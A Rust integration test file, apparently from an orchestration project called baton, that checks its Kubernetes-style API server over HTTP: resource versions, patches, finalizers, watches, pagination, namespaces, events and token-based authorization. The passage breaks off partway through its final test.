//! The API server over HTTP, on a real embedded store: the semantics kubectl and kube-rs
//! rely on, request by request.

use std::sync::Arc;
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use baton_api::app::STOP_FINALIZER;
use baton_apiserver::auth::{Rules, Tokens};
use baton_apiserver::{ApiServer, Limits, Security};
use baton_store::embedded::{EmbeddedOptions, EmbeddedStore};
use baton_store::{Keyspace, Op, Store, StoreExt, Txn};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tower::ServiceExt;

const APPS: &str = "/apis/baton.dev/v1alpha1/namespaces/default/apps";

struct Api {
    router: Router,
    store: Arc<dyn Store>,
    _dir: tempfile::TempDir,
}

impl Api {
    async fn new() -> Self {
        Self::with_history(100_000).await
    }

    async fn with_history(history: u64) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let options = EmbeddedOptions { history, ..EmbeddedOptions::default() };
        let store: Arc<dyn Store> = Arc::new(EmbeddedStore::open(dir.path(), options).await.unwrap());
        Self::on(store, dir).await
    }

    /// An API server on `store` (kept in `dir`).
    async fn on(store: Arc<dyn Store>, dir: tempfile::TempDir) -> Self {
        let security = Security {
            tokens: Tokens::parse("admin-token,admin,baton:admins\nalice-token,alice,team-a\nbob-token,bob\n").unwrap(),
            rules: Rules::parse("rules:\n- groups: [team-a]\n  namespaces: [default]\n  access: read\n").unwrap(),
            delegated: None,
        };
        let limits = Limits { watches_per_user: 3, bookmark_interval: Duration::from_millis(300), ..Limits::default() };
        let router = ApiServer::start(store.clone(), Keyspace::default(), security, limits).await.unwrap().router();
        Self { router, store, _dir: dir }
    }

    fn request(method: Method, path: &str, content_type: &str, body: Option<&Value>) -> Request<Body> {
        Self::request_as("admin-token", method, path, content_type, body)
    }

    fn request_as(token: &str, method: Method, path: &str, content_type: &str, body: Option<&Value>) -> Request<Body> {
        let builder = Request::builder()
            .method(method)
            .uri(path)
            .header("content-type", content_type)
            .header("authorization", format!("Bearer {token}"));
        builder.body(body.map_or_else(Body::empty, |b| Body::from(b.to_string()))).unwrap()
    }

    async fn call_as(
        &self,
        method: Method,
        path: &str,
        content_type: &str,
        body: Option<&Value>,
    ) -> (StatusCode, Value) {
        self.send(Self::request(method, path, content_type, body)).await
    }

    async fn send(&self, request: Request<Body>) -> (StatusCode, Value) {
        let response = self.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        let value = if bytes.is_empty() { Value::Null } else { serde_json::from_slice(&bytes).unwrap_or(Value::Null) };
        (status, value)
    }

    async fn call(&self, method: Method, path: &str, body: Option<&Value>) -> (StatusCode, Value) {
        self.call_as(method, path, "application/json", body).await
    }

    async fn create(&self, name: &str, instances: i32) -> Value {
        let (status, body) = self.call(Method::POST, APPS, Some(&app(name, instances))).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
        body
    }

    /// The first `count` events of a watch, each within 5 s.
    async fn watch(&self, path: &str, count: usize) -> Vec<Value> {
        let response =
            self.router.clone().oneshot(Self::request(Method::GET, path, "application/json", None)).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let mut body = response.into_body();
        let mut buffer = Vec::new();
        let mut events = Vec::new();
        while events.len() < count {
            let frame = tokio::time::timeout(Duration::from_secs(5), body.frame())
                .await
                .unwrap_or_else(|_| panic!("no watch event within 5 s; got {events:?}"));
            let Some(frame) = frame else { break };
            buffer.extend_from_slice(frame.unwrap().data_ref().map(|b| b.as_ref()).unwrap_or_default());
            while let Some(end) = buffer.iter().position(|b| *b == b'\n') {
                let line: Vec<u8> = buffer.drain(..=end).collect();
                events.push(serde_json::from_slice(&line).unwrap());
            }
        }
        events
    }
}

fn app(name: &str, instances: i32) -> Value {
    json!({"apiVersion": "baton.dev/v1alpha1", "kind": "App", "metadata": {"name": name, "labels": {"tier": "web"}},
           "spec": {"instances": instances, "cmd": "sleep 100"}})
}

fn rv(object: &Value) -> String {
    object["metadata"]["resourceVersion"].as_str().expect("a resourceVersion").to_string()
}

#[tokio::test]
async fn create_get_and_duplicate() {
    let api = Api::new().await;
    let created = api.create("web", 3).await;
    assert_eq!(created["metadata"]["generation"], 1);
    assert!(created["metadata"]["uid"].as_str().is_some_and(|u| !u.is_empty()));
    assert_eq!(created["spec"]["resources"]["mem"], 128.0, "defaults are filled in");
    let (status, got) = api.call(Method::GET, &format!("{APPS}/web"), None).await;
    assert_eq!((status, rv(&got)), (StatusCode::OK, rv(&created)));
    let (status, body) = api.call(Method::POST, APPS, Some(&app("web", 1))).await;
    assert_eq!((status, body["reason"].as_str()), (StatusCode::CONFLICT, Some("AlreadyExists")));
    let (status, body) = api.call(Method::GET, &format!("{APPS}/nope"), None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert_eq!(body["message"], "apps.baton.dev \"nope\" not found");
}

#[tokio::test]
async fn a_stale_resource_version_conflicts_and_generation_counts_spec_changes() {
    let api = Api::new().await;
    let created = api.create("web", 3).await;
    let mut update = created.clone();
    update["spec"]["instances"] = json!(4);
    let (status, updated) = api.call(Method::PUT, &format!("{APPS}/web"), Some(&update)).await;
    assert_eq!(status, StatusCode::OK, "{updated}");
    assert_eq!(updated["metadata"]["generation"], 2);
    // The same body again carries the old resourceVersion: 409.
    let (status, body) = api.call(Method::PUT, &format!("{APPS}/web"), Some(&update)).await;
    assert_eq!((status, body["reason"].as_str()), (StatusCode::CONFLICT, Some("Conflict")));
    // A metadata-only change keeps the generation.
    let labels = json!({"metadata": {"labels": {"tier": "api"}}});
    let (status, patched) =
        api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/merge-patch+json", Some(&labels)).await;
    assert_eq!((status, patched["metadata"]["generation"].clone()), (StatusCode::OK, json!(2)));
    // A write that changes nothing keeps the resourceVersion.
    let (_, again) =
        api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/merge-patch+json", Some(&labels)).await;
    assert_eq!(rv(&again), rv(&patched));
}

#[tokio::test]
async fn status_and_scale_subresources() {
    let api = Api::new().await;
    api.create("web", 3).await;
    let status_patch = json!({"status": {"running": 2, "instances": 3}, "spec": {"instances": 9}});
    let (code, object) = api
        .call_as(Method::PATCH, &format!("{APPS}/web/status"), "application/merge-patch+json", Some(&status_patch))
        .await;
    assert_eq!(code, StatusCode::OK, "{object}");
    assert_eq!((object["status"]["running"].clone(), object["spec"]["instances"].clone()), (json!(2), json!(3)));
    // A main-resource write cannot touch status.
    let spec_patch = json!({"status": {"running": 99}});
    let (_, object) =
        api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/merge-patch+json", Some(&spec_patch)).await;
    assert_eq!(object["status"]["running"], 2);

    let (code, scale) = api.call(Method::GET, &format!("{APPS}/web/scale"), None).await;
    assert_eq!(code, StatusCode::OK);
    assert_eq!(
        (scale["kind"].as_str(), scale["spec"]["replicas"].clone(), scale["status"]["replicas"].clone()),
        (Some("Scale"), json!(3), json!(3))
    );
    let replicas = json!({"spec": {"replicas": 5}});
    let (code, scale) =
        api.call_as(Method::PATCH, &format!("{APPS}/web/scale"), "application/merge-patch+json", Some(&replicas)).await;
    assert_eq!((code, scale["spec"]["replicas"].clone()), (StatusCode::OK, json!(5)));
    let negative = json!({"spec": {"replicas": -1}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/web/scale"), "application/merge-patch+json", Some(&negative)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
}

#[tokio::test]
async fn patches_by_media_type_and_nothing_half_written() {
    let api = Api::new().await;
    let created = api.create("web", 3).await;
    let path = format!("{APPS}/web");
    let (code, body) =
        api.call_as(Method::PATCH, &path, "application/strategic-merge-patch+json", Some(&json!({}))).await;
    assert_eq!((code, body["reason"].as_str()), (StatusCode::UNSUPPORTED_MEDIA_TYPE, Some("UnsupportedMediaType")));
    let to_array = json!([{"op": "replace", "path": "", "value": [1, 2]}]);
    let (code, _) = api.call_as(Method::PATCH, &path, "application/json-patch+json", Some(&to_array)).await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "a patch may not turn the object into an array");
    let invalid = json!([{"op": "replace", "path": "/spec/instances", "value": -3}]);
    let (code, body) = api.call_as(Method::PATCH, &path, "application/json-patch+json", Some(&invalid)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["details"]["causes"][0]["field"], "spec.instances");
    let (_, now) = api.call(Method::GET, &path, None).await;
    assert_eq!(rv(&now), rv(&created), "refused patches wrote nothing");
    let failing_test = json!([{"op": "test", "path": "/spec/instances", "value": 7}]);
    let (code, _) = api.call_as(Method::PATCH, &path, "application/json-patch+json", Some(&failing_test)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY);
}

#[tokio::test]
async fn finalizers_hold_deletion_until_removed() {
    let api = Api::new().await;
    let mut body = app("web", 1);
    body["metadata"]["finalizers"] = json!(["example.dev/cleanup"]);
    let (code, _) = api.call(Method::POST, APPS, Some(&body)).await;
    assert_eq!(code, StatusCode::CREATED);
    let path = format!("{APPS}/web");
    let (code, marked) = api.call(Method::DELETE, &path, None).await;
    assert_eq!(code, StatusCode::ACCEPTED);
    assert!(marked["metadata"]["deletionTimestamp"].is_string());
    let remove = json!({"metadata": {"finalizers": null}});
    let (code, _) = api.call_as(Method::PATCH, &path, "application/merge-patch+json", Some(&remove)).await;
    assert_eq!(code, StatusCode::OK);
    let (code, _) = api.call(Method::GET, &path, None).await;
    assert_eq!(code, StatusCode::NOT_FOUND, "removing the last finalizer deletes");
}

#[tokio::test]
async fn list_filters_by_selectors_and_renders_tables() {
    let api = Api::new().await;
    api.create("web", 1).await;
    let mut other = app("db", 2);
    other["metadata"]["labels"] = json!({"tier": "data"});
    api.call(Method::POST, APPS, Some(&other)).await;
    let (_, list) = api.call(Method::GET, &format!("{APPS}?labelSelector=tier%3Ddata"), None).await;
    let names: Vec<&str> =
        list["items"].as_array().unwrap().iter().map(|i| i["metadata"]["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["db"]);
    assert_eq!(list["kind"], "AppList");
    let (_, all) = api.call(Method::GET, "/apis/baton.dev/v1alpha1/apps?fieldSelector=metadata.name%3Dweb", None).await;
    assert_eq!(all["items"].as_array().unwrap().len(), 1);

    let request = Request::builder()
        .uri(APPS)
        .header("accept", "application/json;as=Table;v=v1;g=meta.k8s.io,application/json")
        .header("authorization", "Bearer admin-token")
        .body(Body::empty())
        .unwrap();
    let response = api.router.clone().oneshot(request).await.unwrap();
    let table: Value = serde_json::from_slice(&response.into_body().collect().await.unwrap().to_bytes()).unwrap();
    assert_eq!(table["kind"], "Table");
    let columns: Vec<&str> =
        table["columnDefinitions"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(
        columns,
        [
            "Name",
            "State",
            "Instances",
            "Running",
            "Healthy",
            "Unhealthy",
            "Failures",
            "Staged",
            "Desired",
            "Id",
            "Version",
            "Age"
        ]
    );
    assert_eq!(table["rows"][0]["cells"][0], "db");
    assert_eq!(table["rows"][0]["cells"][1], Value::Null, "no state before a controller has seen it");
    assert_eq!(table["rows"][0]["cells"][2], 2);
}

#[tokio::test]
async fn watch_replays_from_a_version_and_follows() {
    let api = Api::new().await;
    let created = api.create("web", 1).await;
    // Without the controller's finalizer (no controller runs here), so the delete is final.
    let patch = json!({"spec": {"instances": 2}, "metadata": {"finalizers": null}});
    api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/merge-patch+json", Some(&patch)).await;
    api.call(Method::DELETE, &format!("{APPS}/web"), None).await;
    let events = api.watch(&format!("{APPS}?watch=true&resourceVersion={}", rv(&created)), 2).await;
    let types: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
    assert_eq!(types, ["MODIFIED", "DELETED"]);
    assert_eq!(events[0]["object"]["spec"]["instances"], 2);

    // From "0": the current state first.
    api.create("db", 1).await;
    let events = api.watch(&format!("{APPS}?watch=true&resourceVersion=0"), 1).await;
    assert_eq!(
        (events[0]["type"].as_str(), events[0]["object"]["metadata"]["name"].as_str()),
        (Some("ADDED"), Some("db"))
    );

    // A streaming list ends its initial events with an annotated bookmark.
    let events = api
        .watch(
            &format!(
                "{APPS}?watch=true&sendInitialEvents=true&allowWatchBookmarks=true&resourceVersionMatch=NotOlderThan"
            ),
            2,
        )
        .await;
    assert_eq!(events[1]["type"], "BOOKMARK");
    assert_eq!(events[1]["object"]["metadata"]["annotations"]["k8s.io/initial-events-end"], "true");
}

#[tokio::test]
async fn a_watch_from_compacted_history_gets_an_in_stream_410() {
    let api = Api::with_history(5).await;
    let first = api.create("web", 1).await;
    for i in 0..20 {
        api.store.put(&format!("/baton/other/{i}"), b"x".to_vec()).await.unwrap();
    }
    let events = api.watch(&format!("{APPS}?watch=true&resourceVersion={}", rv(&first)), 1).await;
    assert_eq!(events[0]["type"], "ERROR");
    assert_eq!(events[0]["object"]["code"], 410);
    assert_eq!(events[0]["object"]["reason"], "Expired");
}

#[tokio::test]
async fn instances_are_a_read_only_view_of_the_records() {
    let api = Api::new().await;
    let record = json!({
        "id": "web-abc", "app": {"namespace": "default", "name": "web", "uid": "u1"}, "agent": "agent-1",
        "host": "127.0.0.1", "version": "v1", "createdAt": "2026-11-21T00:00:00Z", "goal": "Running",
        "command": {"shell": "sleep 1"}, "labels": {"tier": "web"},
        "resources": {"millicpus": 100, "memMib": 64, "diskMib": 0}, "ports": [{"name": "http", "port": 31005}],
        "killGraceSeconds": 3
    });
    api.store.put("/baton/instances/agent-1/web-abc", record.to_string().into_bytes()).await.unwrap();
    // As the controller writes it: with the index entry that finds it by id.
    api.store.put("/baton/instance-agents/web-abc", b"agent-1".to_vec()).await.unwrap();
    api.store
        .put("/baton/status/agent-1/web-abc", json!({"phase": "Running", "pid": 42}).to_string().into_bytes())
        .await
        .unwrap();
    let path = "/apis/baton.dev/v1alpha1/namespaces/default/instances";
    let (_, list) = api.call(Method::GET, path, None).await;
    assert_eq!(list["items"][0]["status"]["phase"], "Unreachable", "its agent is not registered");
    let agent = json!({"name": "agent-1", "host": "127.0.0.1", "resources": {"millicpus": 1000, "memMib": 1024, "diskMib": 0},
                       "version": "test", "startedAt": "2026-11-21T00:00:00Z"});
    api.store.put("/baton/agents/agent-1", agent.to_string().into_bytes()).await.unwrap();
    let (code, list) = api.call(Method::GET, &format!("{path}?labelSelector=app%3Dweb,tier%3Dweb"), None).await;
    assert_eq!(code, StatusCode::OK);
    let item = &list["items"][0];
    assert_eq!(item["metadata"]["name"], "web-abc");
    assert_eq!((item["spec"]["agent"].clone(), item["spec"]["ports"].clone()), (json!("agent-1"), json!([31005])));
    assert_eq!((item["status"]["phase"].clone(), item["status"]["pid"].clone()), (json!("Running"), json!(42)));
    let (code, _) = api.call(Method::GET, &format!("{path}/web-abc"), None).await;
    assert_eq!(code, StatusCode::OK);
    let (code, _) = api.call(Method::GET, "/apis/baton.dev/v1alpha1/namespaces/other/instances/web-abc", None).await;
    assert_eq!(code, StatusCode::NOT_FOUND, "namespaced by the app's namespace");
    let (code, _) = api.call(Method::PATCH, &format!("{path}/web-abc"), Some(&json!({"spec": {}}))).await;
    assert_eq!(code, StatusCode::METHOD_NOT_ALLOWED, "a view is not written");
    let (code, _) = api.call(Method::DELETE, "/apis/baton.dev/v1alpha1/agents/agent-1", None).await;
    assert_eq!(code, StatusCode::METHOD_NOT_ALLOWED, "agents are not deleted through the API");

    // DELETE asks the controller to kill the instance: a kill request, the view marked.
    let (code, killed) = api.call(Method::DELETE, &format!("{path}/web-abc"), None).await;
    assert_eq!(code, StatusCode::OK, "{killed}");
    assert!(killed["metadata"]["deletionTimestamp"].is_string(), "{killed}");
    let request = api.store.get("/baton/kills/default/web-abc").await.unwrap().expect("a kill request");
    let request: baton_api::KillRequest = serde_json::from_slice(&request.value).unwrap();
    assert_eq!((request.user.as_str(), request.grace_seconds), ("admin", None));
    // Again, with a grace period: the first request stays.
    let (code, _) = api.call(Method::DELETE, &format!("{path}/web-abc"), Some(&json!({"gracePeriodSeconds": 0}))).await;
    assert_eq!(code, StatusCode::OK);
    let again = api.store.get("/baton/kills/default/web-abc").await.unwrap().unwrap();
    assert_eq!(serde_json::from_slice::<baton_api::KillRequest>(&again.value).unwrap(), request);
    let (code, status) =
        api.call(Method::DELETE, &format!("{path}/web-abc"), Some(&json!({"gracePeriodSeconds": -1}))).await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
    assert!(status["message"].as_str().unwrap().contains("gracePeriodSeconds: Invalid value: -1"), "{status}");
    let (code, _) = api.call(Method::DELETE, &format!("{path}/web-nothing"), None).await;
    assert_eq!(code, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn who_may_do_what() {
    let api = Api::new().await;
    api.create("web", 1).await;
    let anonymous = Request::builder().uri(APPS).body(Body::empty()).unwrap();
    let (code, body) = api.send(anonymous).await;
    assert_eq!((code, body["reason"].as_str()), (StatusCode::UNAUTHORIZED, Some("Unauthorized")));
    let (code, _) = api.send(Api::request_as("wrong-token", Method::GET, APPS, "application/json", None)).await;
    assert_eq!(code, StatusCode::UNAUTHORIZED);
    // alice's team may read in default, nothing else.
    let (code, _) = api.send(Api::request_as("alice-token", Method::GET, APPS, "application/json", None)).await;
    assert_eq!(code, StatusCode::OK);
    let (code, body) =
        api.send(Api::request_as("alice-token", Method::POST, APPS, "application/json", Some(&app("x", 1)))).await;
    assert_eq!(code, StatusCode::FORBIDDEN);
    assert_eq!(
        body["message"],
        "apps.baton.dev is forbidden: User \"alice\" cannot create resource \"apps\" in API group \"baton.dev\" in the namespace \"default\""
    );
    let elsewhere = "/apis/baton.dev/v1alpha1/namespaces/other/apps";
    let (code, _) = api.send(Api::request_as("alice-token", Method::GET, elsewhere, "application/json", None)).await;
    assert_eq!(code, StatusCode::FORBIDDEN);
    // bob has no rule: discovery only.
    let (code, _) = api.send(Api::request_as("bob-token", Method::GET, APPS, "application/json", None)).await;
    assert_eq!(code, StatusCode::FORBIDDEN);
    let (code, _) = api.send(Api::request_as("bob-token", Method::GET, "/apis", "application/json", None)).await;
    assert_eq!(code, StatusCode::OK);
    let health = Request::builder().uri("/healthz").body(Body::empty()).unwrap();
    assert_eq!(api.send(health).await.0, StatusCode::OK, "health needs no credentials");
}

#[tokio::test]
async fn a_user_may_hold_only_so_many_watches() {
    let api = Api::new().await;
    let watch = || Api::request_as("alice-token", Method::GET, &format!("{APPS}?watch=true"), "application/json", None);
    let mut open = Vec::new();
    for _ in 0..3 {
        let response = api.router.clone().oneshot(watch()).await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        open.push(response);
    }
    let (code, body) = api.send(watch()).await;
    assert_eq!((code, body["reason"].as_str()), (StatusCode::TOO_MANY_REQUESTS, Some("TooManyRequests")));
    // Others are not affected, and a closed watch frees its place.
    let admin = Api::request(Method::GET, &format!("{APPS}?watch=true"), "application/json", None);
    assert_eq!(api.router.clone().oneshot(admin).await.unwrap().status(), StatusCode::OK);
    drop(open.pop());
    let response = api.router.clone().oneshot(watch()).await.unwrap();
    assert_eq!(response.status(), StatusCode::OK);
}

fn names(list: &Value) -> Vec<String> {
    list["items"].as_array().unwrap().iter().map(|i| i["metadata"]["name"].as_str().unwrap().to_string()).collect()
}

#[tokio::test]
async fn pages_of_a_list_are_one_consistent_view() {
    let api = Api::new().await;
    for i in 0..7 {
        api.create(&format!("app-{i}"), 1).await;
    }
    let (code, first) = api.call(Method::GET, &format!("{APPS}?limit=3"), None).await;
    assert_eq!(code, StatusCode::OK, "{first}");
    assert_eq!(names(&first), ["app-0", "app-1", "app-2"]);
    let token = first["metadata"]["continue"].as_str().expect("a continue token").to_string();
    // Changes after the first page do not show in its later pages.
    api.call(Method::DELETE, &format!("{APPS}/app-4"), None).await;
    api.create("app-35", 1).await;
    let (_, second) = api.call(Method::GET, &format!("{APPS}?limit=3&continue={token}"), None).await;
    assert_eq!(names(&second), ["app-3", "app-4", "app-5"]);
    assert_eq!(second["metadata"]["resourceVersion"], first["metadata"]["resourceVersion"]);
    let token = second["metadata"]["continue"].as_str().unwrap().to_string();
    let (_, last) = api.call(Method::GET, &format!("{APPS}?limit=3&continue={token}"), None).await;
    assert_eq!(names(&last), ["app-6"]);
    assert!(last["metadata"].get("continue").is_none(), "the last page has no continue token");

    // A selector fills pages with matching objects only.
    let (_, page) =
        api.call(Method::GET, &format!("{APPS}?limit=2&fieldSelector=metadata.name%21%3Dapp-0"), None).await;
    assert_eq!(names(&page), ["app-1", "app-2"]);
    let (code, body) = api.call(Method::GET, &format!("{APPS}?limit=2&continue=garbage"), None).await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "{body}");
}

#[tokio::test]
async fn a_continue_token_older_than_the_history_is_expired() {
    let api = Api::with_history(5).await;
    for i in 0..4 {
        api.create(&format!("app-{i}"), 1).await;
    }
    let (_, first) = api.call(Method::GET, &format!("{APPS}?limit=2"), None).await;
    let token = first["metadata"]["continue"].as_str().unwrap().to_string();
    for i in 0..20 {
        api.store.put(&format!("/baton/other/{i}"), b"x".to_vec()).await.unwrap();
    }
    let (code, body) = api.call(Method::GET, &format!("{APPS}?limit=2&continue={token}"), None).await;
    assert_eq!((code, body["reason"].as_str()), (StatusCode::GONE, Some("Expired")), "{body}");
}

const NAMESPACES: &str = "/api/v1/namespaces";

fn namespace(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})
}

#[tokio::test]
async fn objects_live_in_namespaces_that_exist() {
    let api = Api::new().await;
    let (code, default) = api.call(Method::GET, &format!("{NAMESPACES}/default"), None).await;
    assert_eq!((code, default["status"]["phase"].as_str()), (StatusCode::OK, Some("Active")), "default always exists");
    let shop_apps = "/apis/baton.dev/v1alpha1/namespaces/shop/apps";
    let (code, body) = api.call(Method::POST, shop_apps, Some(&app("web", 1))).await;
    assert_eq!((code, body["message"].as_str()), (StatusCode::NOT_FOUND, Some("namespaces \"shop\" not found")));
    let (code, created) = api.call(Method::POST, NAMESPACES, Some(&namespace("shop"))).await;
    assert_eq!((code, created["status"]["phase"].as_str()), (StatusCode::CREATED, Some("Active")), "{created}");
    let (code, body) = api.call(Method::POST, NAMESPACES, Some(&namespace("Not_A_Label"))).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    // A new App carries the controller's finalizer (once, whatever else it lists).
    let (code, web) = api.call(Method::POST, shop_apps, Some(&app("web", 1))).await;
    assert_eq!(code, StatusCode::CREATED);
    assert_eq!(web["metadata"]["finalizers"], json!([STOP_FINALIZER]), "{web}");
    let mut held = app("held", 1);
    held["metadata"]["finalizers"] = json!(["example.dev/hold"]);
    let (_, held) = api.call(Method::POST, shop_apps, Some(&held)).await;
    assert_eq!(held["metadata"]["finalizers"], json!(["example.dev/hold", STOP_FINALIZER]), "{held}");
    let mut listed = app("listed", 1);
    listed["metadata"]["finalizers"] = json!([STOP_FINALIZER]);
    let (_, listed) = api.call(Method::POST, shop_apps, Some(&listed)).await;
    assert_eq!(listed["metadata"]["finalizers"], json!([STOP_FINALIZER]), "{listed}");
    let (_, list) = api.call(Method::GET, NAMESPACES, None).await;
    assert_eq!(names(&list), ["default", "shop"]);

    // Deleting the namespace deletes what it holds; an object with a finalizer keeps it
    // Terminating, and nothing new may be created in it meanwhile. Released by its
    // finalizers' owners (here, as the controller does once an App's instances are stopped),
    // each goes.
    let (code, deleting) = api.call(Method::DELETE, &format!("{NAMESPACES}/shop"), None).await;
    assert_eq!((code, deleting["status"]["phase"].as_str()), (StatusCode::OK, Some("Terminating")));
    let release = json!({"metadata": {"finalizers": null}});
    for name in ["web", "listed"] {
        let marked = wait_until(|| async {
            let (_, app) = api.call(Method::GET, &format!("{shop_apps}/{name}"), None).await;
            app["metadata"]["deletionTimestamp"].is_string()
        })
        .await;
        assert!(marked, "{name} is marked deleted with its namespace");
        api.call_as(Method::PATCH, &format!("{shop_apps}/{name}"), "application/merge-patch+json", Some(&release))
            .await;
    }
    let web_gone = wait_until(|| async {
        api.call(Method::GET, &format!("{shop_apps}/web"), None).await.0 == StatusCode::NOT_FOUND
    })
    .await;
    assert!(web_gone, "the namespace's app whose finalizers are done is deleted");
    let (_, held) = api.call(Method::GET, &format!("{shop_apps}/held"), None).await;
    assert!(held["metadata"]["deletionTimestamp"].is_string(), "{held}");
    let (code, body) = api.call(Method::POST, shop_apps, Some(&app("late", 1))).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "{body}");
    assert!(body["message"].as_str().unwrap().contains("being terminated"), "{body}");
    let (code, _) = api.call(Method::GET, &format!("{NAMESPACES}/shop"), None).await;
    assert_eq!(code, StatusCode::OK, "still Terminating while an object waits for its finalizer");
    api.call_as(Method::PATCH, &format!("{shop_apps}/held"), "application/merge-patch+json", Some(&release)).await;
    let ns_gone = wait_until(|| async {
        api.call(Method::GET, &format!("{NAMESPACES}/shop"), None).await.0 == StatusCode::NOT_FOUND
    })
    .await;
    assert!(ns_gone, "the namespace goes with its last object");
    let (code, _) = api.call(Method::DELETE, &format!("{NAMESPACES}/default"), None).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "default may not be deleted");
}

/// Whether `check` holds within 5 s.
async fn wait_until<F, Fut>(check: F) -> bool
where
    F: Fn() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    while tokio::time::Instant::now() < deadline {
        if check().await {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    false
}

fn event(name: &str, reason: &str, about: &str) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Event", "metadata": {"name": name, "namespace": "default"},
        "involvedObject": {"apiVersion": "baton.dev/v1alpha1", "kind": "App", "name": about, "namespace": "default"},
        "reason": reason, "message": format!("{reason} {about}"), "type": "Normal", "count": 1,
        "source": {"component": "baton-controller"},
        "firstTimestamp": "2026-11-21T00:00:00Z", "lastTimestamp": "2026-11-21T00:00:00Z",
    })
}

#[tokio::test]
async fn events_are_selected_by_what_they_are_about_and_expire() {
    let api = Api::new().await;
    let events = "/api/v1/namespaces/default/events";
    for (name, reason, about) in [("e1", "Launched", "web"), ("e2", "Killed", "web"), ("e3", "Launched", "db")] {
        let (code, body) = api.call(Method::POST, events, Some(&event(name, reason, about))).await;
        assert_eq!(code, StatusCode::CREATED, "{body}");
    }
    let query = "fieldSelector=involvedObject.name%3Dweb,involvedObject.namespace%3Ddefault,involvedObject.kind%3DApp";
    let (_, list) = api.call(Method::GET, &format!("{events}?{query}"), None).await;
    assert_eq!(names(&list), ["e1", "e2"]);
    let (_, list) = api.call(Method::GET, "/api/v1/events?fieldSelector=reason%3DLaunched", None).await;
    assert_eq!(names(&list), ["e1", "e3"]);
    let (code, body) = api.call(Method::GET, &format!("{events}?fieldSelector=spec.x%3D1"), None).await;
    assert_eq!(code, StatusCode::BAD_REQUEST);
    assert!(body["message"].as_str().unwrap().contains("involvedObject.name"), "{body}");
    let mut bad = event("e4", "X", "web");
    bad["type"] = json!("Urgent");
    let (code, body) = api.call(Method::POST, events, Some(&bad)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["details"]["causes"][0]["field"], "type");
    // Every event is attached to a lease, so the store expires it.
    let stored = api.store.get("/baton/registry/core/events/default/e1").await.unwrap().unwrap();
    assert_ne!(stored.lease, 0, "an event expires with its lease");
    let patch = json!({"count": 2});
    let (code, _) =
        api.call_as(Method::PATCH, &format!("{events}/e1"), "application/merge-patch+json", Some(&patch)).await;
    assert_eq!(code, StatusCode::OK);
    let stored = api.store.get("/baton/registry/core/events/default/e1").await.unwrap().unwrap();
    assert_ne!(stored.lease, 0, "an updated event keeps a lease");
}

#[tokio::test]
async fn discovery_serves_the_core_group_and_the_views() {
    let api = Api::new().await;
    let (_, core) = api.call(Method::GET, "/api/v1", None).await;
    let resources: Vec<&str> =
        core["resources"].as_array().unwrap().iter().map(|r| r["name"].as_str().unwrap()).collect();
    assert_eq!(resources, ["namespaces", "namespaces/status", "events"]);
    let (_, versions) = api.call(Method::GET, "/api", None).await;
    assert_eq!(versions["versions"], json!(["v1"]));
    let (_, group) = api.call(Method::GET, "/apis/baton.dev/v1alpha1", None).await;
    let agents = group["resources"].as_array().unwrap().iter().find(|r| r["name"] == "agents").unwrap().clone();
    assert_eq!(
        (agents["namespaced"].clone(), agents["verbs"].clone()),
        (json!(false), json!(["get", "list", "watch"]))
    );
}

#[tokio::test]
async fn agents_are_a_read_only_cluster_wide_view() {
    let api = Api::new().await;
    let agent = json!({"name": "a1", "host": "10.0.0.1", "resources": {"millicpus": 2000, "memMib": 1024, "diskMib": 0},
                       "attributes": {"rack": "r1"}, "version": "test", "startedAt": "2026-11-21T00:00:00Z"});
    api.store.put("/baton/agents/a1", agent.to_string().into_bytes()).await.unwrap();
    let path = "/apis/baton.dev/v1alpha1/agents";
    let (code, list) = api.call(Method::GET, &format!("{path}?labelSelector=rack%3Dr1"), None).await;
    assert_eq!(code, StatusCode::OK, "{list}");
    assert_eq!(names(&list), ["a1"]);
    assert_eq!(list["items"][0]["status"]["state"], "Ready");
    assert_eq!(list["items"][0]["status"]["capacity"]["cpus"], 2.0);
    let (code, _) = api.call(Method::GET, &format!("{path}?fieldSelector=status.state%3DUnreachable"), None).await;
    assert_eq!(code, StatusCode::OK);
    let (code, _) = api.call(Method::POST, path, Some(&json!({}))).await;
    assert_eq!(code, StatusCode::METHOD_NOT_ALLOWED);
    let request = Request::builder()
        .uri(path)
        .header("accept", "application/json;as=Table;v=v1;g=meta.k8s.io")
        .header("authorization", "Bearer admin-token")
        .body(Body::empty())
        .unwrap();
    let (_, table) = api.send(request).await;
    assert_eq!(
        table["rows"][0]["cells"],
        json!([
            "a1",
